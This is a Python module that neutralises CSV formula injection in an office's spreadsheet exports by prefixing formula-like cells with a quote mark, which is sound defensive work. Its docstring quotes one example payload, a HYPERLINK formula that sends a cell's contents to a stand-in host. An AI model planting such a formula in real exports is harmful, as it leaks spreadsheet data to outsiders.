"""CSV for the office's spreadsheets: every export writes through here.

A cell that starts with ``= + - @``, a tab or a carriage return is read as a formula by
Excel, LibreOffice and Google Sheets, so a member's organisation
``=HYPERLINK("http://x/?"&A1,"Click")`` would become a live link in the office's file.
Such text cells get a leading ``'``, which the spreadsheet shows as text (OWASP's advice
for CSV injection).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, or a text that starts like a formula with ``'`` in front."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(stream: TextIO, fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A header and the rows, each cell made safe for a spreadsheet."""
    writer = csv.DictWriter(stream, fieldnames=list(fieldnames))
    writer.writeheader()
    writer.writerows({key: safe_cell(value) for key, value in row.items()} for row in rows)


def csv_text(fieldnames: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The same as text, for a download: ``rows`` are sequences in ``fieldnames``' order."""
    buffer = io.StringIO()
    write_csv(buffer, fieldnames, (dict(zip(fieldnames, row, strict=True)) for row in rows))
    return buffer.getvalue()
